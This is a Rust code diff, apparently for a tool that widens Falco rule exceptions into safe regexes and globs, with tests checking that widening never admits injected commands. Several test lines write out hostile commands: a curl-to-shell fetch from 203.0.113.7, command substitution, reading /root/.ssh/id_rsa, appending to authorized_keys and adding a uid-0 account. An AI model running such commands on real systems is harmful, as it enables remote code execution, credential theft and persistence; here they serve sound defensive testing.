@@ -192,10 +192,26 @@ pub fn ladder(field: &str, values: &[String]) -> Vec<Gen> {
             if let Some(p) = script_prefix(&distinct) {
                 out.push(gen(field, "glob", ExVal::One(p), 2));
             }
+            let rx: Option<BTreeSet<String>> = distinct
+                .iter()
+                .map(|v| shell_program_regex(v).or_else(|| account_regex(v)))
+                .collect();
+            if let Some(r) = rx.filter(|r| r.len() == 1) {
+                out.extend(r.into_iter().map(|r| gen(field, "regex", ExVal::One(r), 2)));
+            }
         }
         Kind::Pod => {
             if let Some(p) = controller_prefix(&distinct) {
+                // A prefix that still holds a generated segment (a Job's or a runner's run id:
+                // `rust-build-8f2kd-`, `runner-...-project-412-concurrent-`) also takes, wider,
+                // the same controller's pods of another run (`rust-build-*-*`).
+                let generated = p.split('-').any(generated_segment);
                 out.push(gen(field, "startswith", ExVal::One(p), 1));
+                if let Some(g) = pod_glob(&distinct).filter(|_| generated) {
+                    out.push(gen(field, "glob", ExVal::One(g), 2));
+                }
+            } else if let Some(g) = pod_glob(&distinct) {
+                out.push(gen(field, "glob", ExVal::One(g), 1));
             } else if let Some(p) = instance_prefix(&distinct) {
                 out.push(gen(field, "startswith", ExVal::One(p), 2));
             }
@@ -316,6 +332,10 @@ fn glob_token(t: &str) -> String {
         return "*".into();
     }
     if t.len() >= 8 && t.chars().all(|c| c.is_ascii_hexdigit()) {
+        return "*".into();
+    }
+    if t.starts_with(|c: char| c.is_ascii_digit()) && digits > letters && letters <= 2 {
+        // A timestamp's fragment (`05T02` of `2026-11-05T02:00:07`), a size (`64k`).
         return "*".into();
     }
     if t.len() >= 6 && letters > 0 {
@@ -648,6 +668,238 @@ pub fn command_words(words: &[&str]) -> usize {
     words.len()
 }
 
+/// A file name's variable part in a shell program's regex: one or more word characters,
+/// never a blank, a `/`, a `.` or a shell metacharacter.
+const RX_WORD: &str = "[A-Za-z0-9_-]+";
+
+/// One literal character in a regex, without a backslash (Falco's quoting cannot carry
+/// one): metacharacters as a one-character class. `None` for the characters a class
+/// cannot hold that way.
+fn rx_char(c: char, out: &mut String) -> Option<()> {
+    match c {
+        '[' | ']' | '\\' | '^' | '"' => return None,
+        '.' | '+' | '*' | '?' | '(' | ')' | '|' | '{' | '}' | '$' => {
+            out.push('[');
+            out.push(c);
+            out.push(']');
+        }
+        c if c.is_control() => return None,
+        c => out.push(c),
+    }
+    Some(())
+}
+
+/// A shell's program (`sh -c PROGRAM`) as a regex that takes the same program on another
+/// file of the same directories: each word that is a path in a fixed, not broad and not
+/// sensitive directory keeps its directory and extension and takes any plain name
+/// (`sh -c /fluentd/scripts/nvme_smart.sh` → `sh -c /fluentd/scripts/[A-Za-z0-9_-]+[.]sh`;
+/// `... > /var/lib/pg/exports/orders_2026-11-05.csv.gz` → `.../[A-Za-z0-9_-]+[.]csv[.]gz`),
+/// a home's owner any plain name, a run of digits elsewhere any run of digits. Everything
+/// else is literal, and no part can take a blank or a shell metacharacter, so no command
+/// can be chained or substituted into what it takes. `None` when nothing widens.
+pub fn shell_program_regex(v: &str) -> Option<String> {
+    let words: Vec<&str> = v.split(' ').collect();
+    if !is_shell_program(&words) {
+        return None;
+    }
+    let mut out = String::with_capacity(v.len() * 2);
+    let mut widened = false;
+    for (i, w) in words.iter().enumerate() {
+        if i > 0 {
+            out.push(' ');
+        }
+        let home = w.strip_prefix("/home/").and_then(|r| r.split_once('/'));
+        let (prefix, path) = match home {
+            Some((owner, rest)) if !owner.is_empty() && !rest.is_empty() => {
+                widened = true;
+                (format!("/home/{RX_WORD}/"), format!("/home/{owner}/{rest}"))
+            }
+            _ => (String::new(), w.to_string()),
+        };
+        let dir = parent_dir(&path).filter(|d| {
+            let fixed = |d: &str| {
+                !BROAD_DIRS.contains(&d)
+                    && !is_sensitive_dir(d)
+                    && d.matches('/').count() >= 2
+                    && !d.contains("/.")
+            };
+            path.starts_with('/') && (fixed(d) || (!prefix.is_empty() && !d.contains("/.")))
+        });
+        if let Some(d) = dir {
+            let name = &path[d.len() + 1..];
+            let (stem, ext) = name.split_once('.').unwrap_or((name, ""));
+            if !stem.is_empty()
+                && stem
+                    .chars()
+                    .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-')
+            {
+                if prefix.is_empty() {
+                    d.chars().try_for_each(|c| rx_char(c, &mut out))?;
+                } else {
+                    // `/home/OWNER` and what lies below it.
+                    out.push_str(prefix.trim_end_matches('/'));
+                    let rest = d["/home/".len()..].split_once('/').map_or("", |(_, r)| r);
+                    if !rest.is_empty() {
+                        out.push('/');
+                        rest.chars().try_for_each(|c| rx_char(c, &mut out))?;
+                    }
+                }
+                out.push('/');
+                out.push_str(RX_WORD);
+                if !ext.is_empty() {
+                    out.push_str("[.]");
+                    ext.chars().try_for_each(|c| rx_char(c, &mut out))?;
+                }
+                widened = true;
+                continue;
+            }
+        }
+        if !prefix.is_empty() {
+            // A home path not widened by its name: its owner only.
+            out.push_str(&prefix);
+            let rest = &path["/home/".len()..];
+            let rest = rest.split_once('/').map_or("", |(_, r)| r);
+            rest.chars().try_for_each(|c| rx_char(c, &mut out))?;
+            continue;
+        }
+        if i > 1 {
+            // Digit runs, segment numbers and temp names, as classes of any length.
+            widened |= rx_masked_word(w, &mut out)?;
+            continue;
+        }
+        w.chars().try_for_each(|c| rx_char(c, &mut out))?;
+    }
+    (widened && safe_for_eq(&out)).then_some(out)
+}
+
+/// Tools that administer accounts: their argument names the account (`useradd -m kmori`,
+/// `gpasswd -a kmori sudo`, `crontab -l -u app`), a per-invocation value like a file name.
+const ACCOUNT_TOOLS: &[&str] = &[
+    "useradd", "adduser", "usermod", "userdel", "deluser", "groupadd", "groupmod", "gpasswd",
+    "passwd", "chage", "chsh", "crontab",
+];
+
+/// Any account name but `root` (a regex has no negation: spelled out by prefix).
+const ACCOUNT_RX: &str = "(?:[a-qs-z_][a-z0-9_.-]*|r|r[a-np-z0-9_.-][a-z0-9_.-]*|ro|ro[a-np-z0-9_.-][a-z0-9_.-]*|roo|roo[a-su-z0-9_.-][a-z0-9_.-]*|root[a-z0-9_.-]+)";
+
+fn is_account_name(w: &str) -> bool {
+    (2..=32).contains(&w.len())
+        && w.starts_with(|c: char| c.is_ascii_lowercase() || c == '_')
+        && w.chars()
+            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '_' || c == '-')
+}
+
+/// Whether a command line is an account tool's ([`ACCOUNT_TOOLS`]).
+pub fn is_account_tool(cmd: &str) -> bool {
+    let argv0 = cmd.split(' ').next().unwrap_or_default();
+    ACCOUNT_TOOLS.contains(&argv0.rsplit('/').next().unwrap_or_default())
+}
+
+/// The positions of the account names in an account tool's command line: the value of
+/// `-u`/`--user` (crontab), the first argument of `gpasswd -a|-d`, else the last word
+/// (useradd's login), or the first argument right after the tool; and the owner of a
+/// `/home/OWNER` argument naming the same account.
+pub fn account_words(cmd: &str) -> Vec<usize> {
+    let words: Vec<&str> = cmd.split(' ').collect();
+    if !is_account_tool(cmd) || words.len() < 2 {
+        return Vec::new();
+    }
+    let tool = words[0].rsplit('/').next().unwrap_or_default();
+    let mut out: Vec<usize> = Vec::new();
+    for i in 1..words.len() {
+        let prev = words[i - 1];
+        let by_option = matches!(prev, "-u" | "--user") && tool == "crontab"
+            || matches!(prev, "-a" | "-d" | "-M") && tool == "gpasswd";
+        if by_option && is_account_name(words[i]) {
+            out.push(i);
+        }
+    }
+    if out.is_empty() && tool != "crontab" && tool != "gpasswd" {
+        let last = words.len() - 1;
+        if is_account_name(words[last]) && !words[last - 1].starts_with("--") {
+            out.push(last);
+        } else if is_account_name(words[1]) {
+            out.push(1);
+        }
+    }
+    out
+}
+
+/// An account tool's command line as a regex that takes another account (never `root`)
+/// and the same account's home, digit runs and temp names: `useradd -m -s /bin/bash -p *
+/// kmori` → `useradd -m -s /bin/bash -p [*] ACCOUNT`. Every other word is literal, so the
+/// options (groups, shell) stay what was seen. `None` for other tools or without an
+/// account argument.
+pub fn account_regex(cmd: &str) -> Option<String> {
+    let at = account_words(cmd);
+    if at.is_empty() || is_shell_program(&cmd.split(' ').collect::<Vec<_>>()) {
+        return None;
+    }
+    let names: BTreeSet<&str> = cmd
+        .split(' ')
+        .enumerate()
+        .filter(|(i, _)| at.contains(i))
+        .map(|(_, w)| w)
+        .collect();
+    let mut out = String::with_capacity(cmd.len() * 2);
+    for (i, w) in cmd.split(' ').enumerate() {
+        if i > 0 {
+            out.push(' ');
+        }
+        if at.contains(&i) {
+            out.push_str(ACCOUNT_RX);
+            continue;
+        }
+        let home = w
+            .strip_prefix("/home/")
+            .map(|r| r.split_once('/').map_or((r, ""), |(o, rest)| (o, rest)));
+        if let Some((_, rest)) = home.filter(|(o, _)| names.contains(o)) {
+            out.push_str("/home/");
+            out.push_str(ACCOUNT_RX);
+            if !rest.is_empty() || w.ends_with('/') {
+                out.push('/');
+            }
+            rest.chars().try_for_each(|c| rx_char(c, &mut out))?;
+            continue;
+        }
+        rx_masked_word(w, &mut out)?;
+    }
+    (out.contains(' ') && safe_for_eq(&out)).then_some(out)
+}
+
+/// A word in a regex with its digit runs and temp names (as a glob masks them) as word
+/// classes of any length (`000000010000000000000042` → `[A-Za-z0-9]+`), the rest literal.
+/// Returns whether anything was masked.
+fn rx_masked_word(w: &str, out: &mut String) -> Option<bool> {
+    let mut changed = false;
+    let mut token = String::new();
+    let mut flush = |token: &mut String, out: &mut String| -> Option<()> {
+        if token.is_empty() {
+            return Some(());
+        }
+        let m = glob_token(token);
+        if m == *token {
+            token.chars().try_for_each(|c| rx_char(c, out))?;
+        } else {
+            changed = true;
+            out.push_str(m.strip_suffix('*').unwrap_or(""));
+            out.push_str("[A-Za-z0-9]+");
+        }
+        token.clear();
+        Some(())
+    };
+    for c in w.chars() {
+        if c.is_ascii_alphanumeric() {
+            token.push(c);
+        } else {
+            flush(&mut token, out)?;
+            rx_char(c, out)?;
+        }
+    }
+    flush(&mut token, out)?;
+    Some(changed)
+}
+
 /// The command through its script or subcommand, then anything: `python* /opt/app/job.py *`.
 fn script_prefix(distinct: &BTreeSet<&str>) -> Option<String> {
     let mut pats = BTreeSet::new();
@@ -704,32 +956,88 @@ pub fn generated_binary(v: &str) -> Option<String> {
     let (mdir, changed) = masked(dir)?;
     // The generated part must be below a fixed directory of at least two components.
     let fixed = mdir.split('*').next().unwrap_or_default();
-    let fixed_dir = fixed.rsplit_once('/').map_or("", |(d, _)| d);
-    if !changed || !dir.starts_with('/') || fixed_dir.matches('/').count() < 2 {
+    let (fixed_dir, stem) = fixed.rsplit_once('/').unwrap_or(("", ""));
+    // Below a fixed directory of two components (`/dev/shm/go-build*`), or one whose
+    // generated name starts with the tool's own word (`/tmp/go-build*`, not `/tmp/*`
+    // nor mktemp's `/tmp/tmp.*`).
+    let named = stem.chars().filter(char::is_ascii_alphabetic).count() >= 5;
+    if !changed
+        || !dir.starts_with('/')
+        || (fixed_dir.matches('/').count() < 2 && !(named && fixed_dir.matches('/').count() == 1))
+    {
         return None;
     }
     let g = format!("{mdir}/*.{ext}");
     safe_for_eq(&g).then_some(g)
 }
 
-/// A generated binary's command line with its first word (the binary's own name) as any
-/// name with the same extension, the rest masked as [`glob_of`] does:
+/// A generated binary's command line with its first word (the binary's own name, or the
+/// kernel's 15-character cut of it) as any word, the rest masked as [`glob_of`] does:
 /// `queue.test -test.paniconexit0 -test.timeout=10m0s` →
-/// `*.test -test.paniconexit* -test.timeout=10m0s`. `None` when the first word is not
-/// `name` (the executable's file name) or the line is a shell's program.
+/// `* -test.paniconexit* -test.timeout=*` (the exception's executable glob keeps it to
+/// the tool's generated binaries). `None` when the first word is not `name` (the
+/// executable's file name) or its cut, or the line is a shell's program.
 pub fn generated_command(cmd: &str, name: &str) -> Option<String> {
     let (argv0, rest) = cmd.split_once(' ').unwrap_or((cmd, ""));
-    if argv0 != name || is_shell_program(&cmd.split(' ').collect::<Vec<_>>()) {
+    // The kernel keeps 15 characters of a process name, and Falco's command line starts
+    // with it: `ledger_store.te` for `ledger_store.test`.
+    let comm: String = name.chars().take(15).collect();
+    if (argv0 != name && argv0 != comm) || is_shell_program(&cmd.split(' ').collect::<Vec<_>>()) {
         return None;
     }
-    let (_, ext) = argv0.rsplit_once('.')?;
     let rest = if rest.is_empty() {
         String::new()
     } else {
-        format!(" {}", masked(rest)?.0)
+        // Masked with its leading blank: alone, `-test.count=1` would be a bare word.
+        masked(&format!(" {rest}"))?.0
     };
-    let g = format!("*.{ext}{rest}");
+    // Any first word: the next binary's name may be cut (`ledger_store.te`), so its
+    // extension cannot be required; the executable's own glob keeps the exception to the
+    // generated binaries.
+    let g = format!("*{rest}");
     safe_for_eq(&g).then_some(g)
+}
+
+/// A pod name with every generated segment (between `-`s: a run of digits, or a token of
+/// at least 4 letters and digits mixed) as `*`: `runner-p2s7dk1-project-412-concurrent-0-k2l9c`
+/// → `runner-*-project-*-concurrent-*-*`, `rust-build-8f2kd-m2v8c` → `rust-build-*-*`. The
+/// words stay (the controller's name); all values must give one glob, with at least one
+/// word of 3 letters or more kept, and something generated.
+pub fn pod_glob(distinct: &BTreeSet<&str>) -> Option<String> {
+    let globs: BTreeSet<String> = distinct
+        .iter()
+        .map(|v| {
+            let mut words = 0;
+            let mut changed = false;
+            let parts: Vec<&str> = v
+                .split('-')
+                .map(|s| {
+                    if generated_segment(s) {
+                        changed = true;
+                        "*"
+                    } else {
+                        if s.chars().filter(char::is_ascii_alphabetic).count() >= 3 {
+                            words += 1;
+                        }
+                        s
+                    }
+                })
+                .collect();
+            (changed && words > 0).then(|| parts.join("-"))
+        })
+        .collect::<Option<_>>()?;
+    let g = (globs.len() == 1).then(|| globs.into_iter().next())??;
+    safe_for_eq(&g).then_some(g)
+}
+
+/// A generated segment of a pod name: a run of digits, or a token of at least 4 letters
+/// and digits mixed (`8f2kd`, `p2s7dk1`; not `e2e`, `v2`).
+fn generated_segment(s: &str) -> bool {
+    let digits = s.chars().filter(char::is_ascii_digit).count();
+    !s.is_empty()
+        && s.chars().all(|c| c.is_ascii_alphanumeric())
+        && digits > 0
+        && (digits == s.len() || s.len() >= 4)
 }
 
 /// Pods named per user or per instance without a generated suffix (`jupyter-maria`,
@@ -969,6 +1277,13 @@ mod tests {
             None,
             "fixed part too short"
         );
+        // Directly in /tmp only under the tool's own name (`go-build*`), never mktemp's.
+        assert_eq!(
+            generated_binary("/tmp/go-build2975530184/b001/ledger.test").as_deref(),
+            Some("/tmp/go-build*/b*/*.test")
+        );
+        assert_eq!(generated_binary("/tmp/tmp.Xa81kQ/b001/ledger.test"), None);
+        assert_eq!(generated_binary("/tmp/x81kq2/ledger.test"), None);
         let g = ladder(
             "proc.exepath",
             &s(&["/dev/shm/go-build1772003311/b052/queue.test"]),
@@ -988,7 +1303,16 @@ mod tests {
                 "queue.test"
             )
             .as_deref(),
-            Some("*.test -test.paniconexit* -test.timeout=10m0s")
+            Some("* -test.paniconexit* -test.timeout=*")
+        );
+        // The command line's first word is the kernel's 15-character cut of a long name.
+        assert_eq!(
+            generated_command("ledger_store.te -test.count=1", "ledger_store.test").as_deref(),
+            Some("* -test.count=*")
+        );
+        assert_eq!(
+            generated_command("ledger_store.t -x", "ledger_store.test"),
+            None
         );
         assert_eq!(generated_command("worker.test -x", "queue.test"), None);
         assert_eq!(generated_command("sh -c a.test", "sh"), None);
@@ -1054,6 +1378,158 @@ mod tests {
                 .collect()
         )
         .is_none());
+    }
+
+    /// A shell's program widens only by the files of its directories (and a home's owner,
+    /// a digit run), never by a blank or a shell metacharacter: checked through the engine.
+    #[test]
+    fn shell_programs_take_another_file_of_the_same_directory() {
+        let rx = shell_program_regex;
+        assert_eq!(
+            rx("sh -c /fluentd/scripts/nvme_smart.sh").as_deref(),
+            Some("sh -c /fluentd/scripts/[A-Za-z0-9_-]+[.]sh")
+        );
+        assert_eq!(
+            rx("sh -c gzip -c > /var/lib/postgresql/exports/orders_2026-11-05.csv.gz").as_deref(),
+            Some("sh -c gzip -c > /var/lib/postgresql/exports/[A-Za-z0-9_-]+[.]csv[.]gz")
+        );
+        assert_eq!(
+            rx("sh -c formail -ds >> /home/alice/Mail/lists/ops-announce").as_deref(),
+            Some("sh -c formail -ds >> /home/[A-Za-z0-9_-]+/Mail/lists/[A-Za-z0-9_-]+")
+        );
+        // A segment number elsewhere in the program varies too (a WAL archive command).
+        let p = rx("sh -c test ! -f /mnt/wal-archive/000000010000000000000042 && cp pg_wal/000000010000000000000042 /mnt/wal-archive/000000010000000000000042").unwrap();
+        assert_eq!(
+            p,
+            "sh -c test ! -f /mnt/wal-archive/[A-Za-z0-9_-]+ && cp pg_wal/[A-Za-z0-9]+ /mnt/wal-archive/[A-Za-z0-9_-]+"
+        );
+        // Broad and sensitive directories stay literal: nothing widens, no regex.
+        assert_eq!(rx("sh -c /usr/local/bin/check.sh"), None);
+        assert_eq!(rx("sh -c cp x /etc/cron.d/job"), None);
+        assert_eq!(rx("sh -c cat /root/.ssh/id_rsa"), None);
+        assert_eq!(
+            rx("gzip -c /var/lib/pg/exports/a.csv"),
+            None,
+            "not a shell program"
+        );
+        assert_eq!(
+            rx("sh -c echo [x] /srv/app/data/a.txt"),
+            None,
+            "a class cannot carry it"
+        );
+        // Through the engine: the next script of the directory is taken; a chained or
+        // substituted command, another directory or a traversal is not.
+        let m = |pat: &str, v: &str| {
+            let mut e = quell_rules::engine::Engine::new();
+            let rules = format!("- rule: R\n  desc: d\n  condition: evt.type = execve and proc.cmdline regex \"{pat}\"\n  output: o\n  priority: NOTICE\n");
+            assert!(e.load("r.yaml", &rules).successful, "{pat}");
+            let ev = quell_events::FlatEvent::from_json_line(
+                &serde_json::json!({"evt.type": "execve", "proc.cmdline": v}).to_string(),
+            )
+            .unwrap();
+            e.rule("R").unwrap().matches(&ev)
+        };
+        let p = rx("sh -c /fluentd/scripts/nvme_smart.sh").unwrap();
+        assert!(m(&p, "sh -c /fluentd/scripts/iostat_collect.sh"));
+        assert!(!m(
+            &p,
+            "sh -c /fluentd/scripts/x.sh; curl -s http://203.0.113.7/x | sh"
+        ));
+        assert!(!m(&p, "sh -c /fluentd/scripts/$(curl 203.0.113.7).sh"));
+        assert!(!m(&p, "sh -c /fluentd/scripts/../../tmp/x.sh"));
+        assert!(!m(&p, "sh -c /tmp/scripts/x.sh"));
+        assert!(!m(&p, "sh -c /fluentd/scriptsXx.sh"));
+        let p = rx("sh -c formail -ds >> /home/alice/Mail/lists/ops-announce").unwrap();
+        assert!(m(&p, "sh -c formail -ds >> /home/bob/Mail/lists/db-oncall"));
+        assert!(!m(
+            &p,
+            "sh -c formail -ds >> /home/bob/.ssh/authorized_keys"
+        ));
+        let l = ladder(
+            "proc.cmdline",
+            &s(&["sh -c /fluentd/scripts/nvme_smart.sh"]),
+        );
+        assert!(l.iter().any(|g| g.comp == "regex" && g.level == 2), "{l:?}");
+    }
+
+    /// An account tool's account argument takes any account but `root`; its options stay
+    /// literal. Checked through the engine.
+    #[test]
+    fn account_tools_take_another_account_never_root() {
+        let r = account_regex("useradd -m -s /bin/bash -p * rtanaka").unwrap();
+        assert!(r.starts_with("useradd -m -s /bin/bash -p [*] (?:"), "{r}");
+        assert_eq!(account_regex("tar czf /x.tgz /etc"), None);
+        assert_eq!(account_regex("sh -c useradd bob"), None);
+        let m = |pat: &str, v: &str| {
+            let mut e = quell_rules::engine::Engine::new();
+            let rules = format!("- rule: R\n  desc: d\n  condition: evt.type = execve and proc.cmdline regex \"{pat}\"\n  output: o\n  priority: NOTICE\n");
+            assert!(e.load("r.yaml", &rules).successful, "{pat}");
+            let ev = quell_events::FlatEvent::from_json_line(
+                &serde_json::json!({"evt.type": "execve", "proc.cmdline": v}).to_string(),
+            )
+            .unwrap();
+            e.rule("R").unwrap().matches(&ev)
+        };
+        assert!(m(&r, "useradd -m -s /bin/bash -p * mgarcia"));
+        assert!(m(&r, "useradd -m -s /bin/bash -p * rob"));
+        assert!(m(&r, "useradd -m -s /bin/bash -p * rootkit"));
+        assert!(!m(&r, "useradd -m -s /bin/bash -p * root"));
+        assert!(!m(&r, "useradd -m -s /bin/bash -p * -o -u 0 mgarcia"));
+        assert!(!m(&r, "useradd -m -s /bin/bash -p * bob;id"));
+        let r = account_regex("gpasswd -a rtanaka google-sudoers").unwrap();
+        assert!(m(&r, "gpasswd -a mgarcia google-sudoers"));
+        assert!(!m(&r, "gpasswd -a root google-sudoers"));
+        assert!(!m(&r, "gpasswd -a mgarcia sudo"));
+        let r = account_regex("crontab -u app /tmp/__salt.tmp.w3kq9z1t").unwrap();
+        assert!(m(&r, "crontab -u backup /tmp/__salt.tmp.a8xk2m0q"), "{r}");
+        assert!(!m(&r, "crontab -u root /tmp/__salt.tmp.a8xk2m0q"));
+        let r = account_regex("useradd -s /bin/bash -m -d /home/kmori kmori").unwrap();
+        assert!(
+            m(&r, "useradd -s /bin/bash -m -d /home/psantos psantos"),
+            "{r}"
+        );
+        assert!(!m(&r, "useradd -s /bin/bash -m -d /root root"));
+    }
+
+    /// Pods of the same controller in another run: a Job's or a CI runner's run id inside
+    /// the controller's prefix is generated too (`rust-build-8f2kd-m2v8c`), so the widest
+    /// rung globs every generated segment and keeps the words.
+    #[test]
+    fn pod_names_of_another_run_glob_their_generated_segments() {
+        let pg = |v: &[&str]| pod_glob(&v.iter().copied().collect());
+        assert_eq!(
+            pg(&["runner-p2s7dk1-project-88-concurrent-0-w8e7r"]).as_deref(),
+            Some("runner-*-project-*-concurrent-*-*")
+        );
+        assert_eq!(pg(&["web-e2e-4f5g6-ab1cd"]).as_deref(), Some("web-e2e-*-*"));
+        assert_eq!(pg(&["nginx"]), None, "nothing generated");
+        assert_eq!(pg(&["12-34"]), None, "no word kept");
+        assert_eq!(pg(&["web-e2e-4f5g6-ab1cd", "api-e2e-4f5g6-ab1cd"]), None);
+        // Only where the controller's prefix itself holds a generated segment.
+        let g = ladder("k8s.pod.name", &s(&["rust-build-8f2kd-m2v8c"]));
+        assert!(has(&g, "k8s.pod.name", "startswith", "rust-build-8f2kd-"));
+        assert!(g.iter().any(|g| g.comp == "glob"
+            && g.value == ExVal::One("rust-build-*-*".into())
+            && g.level == 2));
+        let g = ladder("k8s.pod.name", &s(&["web-7d9f8c6b5-x2x9k"]));
+        assert!(!g.iter().any(|g| g.comp == "glob"), "{g:?}");
+        // Through the engine: another run's pod is taken, another controller's is not.
+        let m = |pat: &str, v: &str| {
+            let mut e = quell_rules::engine::Engine::new();
+            let rules = format!("- rule: R\n  desc: d\n  condition: evt.type = execve and k8s.pod.name glob \"{pat}\"\n  output: o\n  priority: NOTICE\n");
+            assert!(e.load("r.yaml", &rules).successful);
+            let ev = quell_events::FlatEvent::from_json_line(&format!(
+                r#"{{"evt.type":"execve","k8s.pod.name":"{v}"}}"#
+            ))
+            .unwrap();
+            e.rule("R").unwrap().matches(&ev)
+        };
+        assert!(m("rust-build-*-*", "rust-build-3kq7w-m2v8c"));
+        assert!(!m("rust-build-*-*", "rust-bench-3kq7w-m2v8c"));
+        assert!(m(
+            "runner-*-project-*-concurrent-*-*",
+            "runner-p2s7dk1-project-91-concurrent-0-w8e7r"
+        ));
     }
 
     #[test]
@@ -1310,5 +1786,21 @@ mod tests {
         // Values Falco's quoting cannot carry.
         assert!(ladder("proc.name", &s(&["a\"b"])).is_empty());
         assert!(glob_of("/var/log/a\u{1b}1").is_none());
+    }
+
+    /// A timestamp's fragment with a letter in it (`05T02`), a size or a duration (`64k`,
+    /// `10m0s`) varies like its digits; a word with a digit (`amd64`, `v2`, `3rd`) keeps its
+    /// letters.
+    #[test]
+    fn timestamp_fragments_vary_whole() {
+        assert_eq!(
+            glob_of("borg create ::web01-2026-11-05T02:00:07").as_deref(),
+            Some("borg create ::web*-*-*-*:*:*")
+        );
+        assert_eq!(glob_token("64k"), "*");
+        assert_eq!(glob_token("amd64"), "amd*");
+        assert_eq!(glob_token("10m0s"), "*");
+        assert_eq!(glob_token("v2"), "v*");
+        assert_eq!(glob_token("3rd"), "3rd");
     }
 }
